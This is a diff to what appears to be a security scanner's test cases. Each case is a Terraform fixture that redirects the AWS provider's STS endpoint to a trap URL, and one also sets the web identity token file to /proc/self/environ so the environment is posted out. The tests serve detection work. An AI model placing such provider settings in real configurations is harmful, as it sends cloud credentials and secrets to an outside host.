@@ -103,7 +103,7 @@ const attacks: Attack[] = [
     row: 12,
     name: 'an endpoint of the provider receives its credentials',
     files: (trap) => ({
-      'main.tf': `provider "aws" {\n  endpoints {\n    sts = "${trap.url}"\n  }\n}\ndata "aws_caller_identity" "me" {}\n`,
+      'main.tf': `provider "aws" {\n  max_retries = 1\n  endpoints {\n    sts = "${trap.url}"\n  }\n}\ndata "aws_caller_identity" "me" {}\n`,
     }),
     evidence: heard,
     findings: ['PRE-PROVIDER-ARGUMENT'],
@@ -112,7 +112,7 @@ const attacks: Attack[] = [
     row: 12,
     name: 'a web identity token file posts the environment',
     files: (trap) => ({
-      'main.tf': `provider "aws" {\n  endpoints {\n    sts = "${trap.url}"\n  }\n  assume_role_with_web_identity {\n    role_arn = "arn:aws:iam::123456789012:role/x"\n    web_identity_token_file = "/proc/self/environ"\n  }\n}\ndata "aws_caller_identity" "me" {}\n`,
+      'main.tf': `provider "aws" {\n  max_retries = 1\n  endpoints {\n    sts = "${trap.url}"\n  }\n  assume_role_with_web_identity {\n    role_arn = "arn:aws:iam::123456789012:role/x"\n    web_identity_token_file = "/proc/self/environ"\n  }\n}\ndata "aws_caller_identity" "me" {}\n`,
     }),
     evidence: heardSecret,
     findings: ['PRE-PROVIDER-ARGUMENT'],
